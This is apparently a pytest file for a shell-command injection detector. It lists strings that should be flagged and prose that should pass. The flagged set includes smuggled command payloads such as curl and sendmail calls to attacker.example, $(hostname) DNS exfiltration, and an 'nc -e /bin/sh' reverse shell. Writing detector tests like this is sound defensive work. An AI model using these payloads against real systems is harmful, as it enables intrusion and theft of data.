"""What spares sentences, lists and tables that name commands; and commands dressed as such."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.shell import DETECTOR

SUSPECTS = Suspects(DETECTOR)
WORDS = "so we went to the old mill by the river and then all the way home again"
"""A sentence, which a shell would only fail to run."""


@pytest.mark.parametrize(
    "text",
    [
        # Words among the arguments, and behind them.
        "y; cat is it in /etc/shells",
        "y;cat docs/notes.txt one of the to by us at it",
        "$(cat is it in /etc/shells)",
        "`cat is it in /etc/shells`",
        "y;curl http://attacker.example is it of the us",
        "y|nc 192.0.2.7 4444 is it of the us",
        "y`nc 192.0.2.7 4444 is it of the us`",
        f"y ; base64 notes.txt && echo {WORDS}",
        f"{WORDS} && . ./run",
        f"{WORDS}; head -1 notes.txt",
        "$(ls docs) so we went home",
        "$(tac notes.txt so we went).attacker.example",
        "y $(. ./run)",
        # Values of several words before a quote, and words behind the quote that is opened again.
        'blue pens"&&ls docs\n&&"',
        "Ann & Bob' | ls docs;the #",
        'a, b"|id;echo so;"we went home',
        "y'\n\nsort notes.txt;'",
        'y"; cat notes.txt is it of the us;"',
        "y' && ps aux'",
        "pens=3|awk 1 notes.txt",
        "y; whoami # all of us here today",
        "y | id # all of us here today",
        f"y; wget http://files.example/a.sh -O /tmp/a ; {WORDS}",
        f"y; whoami; {WORDS}",
        f";/???/c?t /???/h?s?s # {WORDS}",
        # Lines.
        "3\nwhoami\n",
        "3\n\n\nwhoami",
        "3" + "\n" * 9 + "whoami",
        # Parentheses and tables.
        "y (& ipconfig /all",
        "y (& net user /domain",
        "| cat /etc/shells |",
        ";whoami;a|---",
        ";cat notes.txt;a|---",
        # Marks of pages and of Markdown.
        "3&gt;cat /etc/shells",
        "3&gt;cat</etc/shells>",
        "3 | id >",
        "3 | sort >x",
        "3; cat >",
        "3&gt;cat</p>/etc/shells",
        "3&b;cat /etc/shells",
        "3&gt;ls -la",
        "`b`;whoami",
        "y`b`|id",
        "$(hostname).attacker.example",
        "y$(users).attacker.example",
        "$(reboot).y",
        # Lists.
        "y&&id&&b&&c",
        "y||ls||b||c",
        # What programs say too.
        "abc;source run.sh",
        "abc;exec run.sh",
        # Capitals on Windows.
        "Ipconfig /all",
        # Programs of mail and of the web, and a shell as an option.
        ";sendmail a@attacker.example",
        "y;sendmail -f b a@attacker.example",
        ";GET http://attacker.example/",
        "y|GET http://attacker.example/",
        "-e sh",
        "-c /bin/bash",
    ],
)
def test_what_only_looks_like_prose_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "Open a terminal; find the file in /etc/hosts and change it",
        f"We talked; cat and dog slept, {WORDS}",
        "We tried it; ping 192.0.2.7 is not going through to the other one",
        "They say `ping 192.0.2.7` is not going through",
        "the dogs'; cats'",
        "the kids' & parents' evening",
        "He calls it 'big'; cats do too",
        "use $(date) to get the time of it",
        "Order; id #5 is the one that is missing",
        f"{WORDS}; sort the letters",
        "milk\ncat food\n",
        "A note\n\nmore of it\n",
        "cron: (root) CMD (cd / && run-parts /etc/cron.hourly)",
        "| id | name |\n| --- | --- |\n| time | date |",
        "Cats&nbsp;find mice",
        "&lt;b&gt;sort&lt;/b&gt;",
        "<p>Rock &#39;n&#39; more</p>",
        "<- back | next -> | more >",
        "<< first | next > ; < previous | last >>",
        "<td>&quot;Salt&quot; more</td></tr>",
        "`a`; sort of `b`",
        "$(link).click()",
        "$(label).length",
        "$(time).val(3)",
        "Postfix, sendmail, exim",
        "GET http://api.example/; then POST it",
        "-e",
        "-shirt",
        "- each she",
    ],
)
def test_prose_passes(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        "ls -la shows nothing; what's wrong?",
        "chmod 777 isn't a good idea",
        "chown -R app:app . doesn't help, use chmod 644 x",
    ],
)
def test_a_command_and_an_apostrophe_are_told_of(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        "chmod 777 /srv/app # isn't",
        "ls -la\nisn't",
        "ls -la isn't'",
        'ls -la "isn\'t"',
        "ls -la isn\\'t",
        "ls -la 'nt",
        "x; ls -la isn't",
        "$(ls -la isn't)",
        "nc -e /bin/sh 192.0.2.7 4444 isn't",
    ],
)
def test_an_apostrophe_that_a_shell_would_not_wait_for_spares_nothing(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS
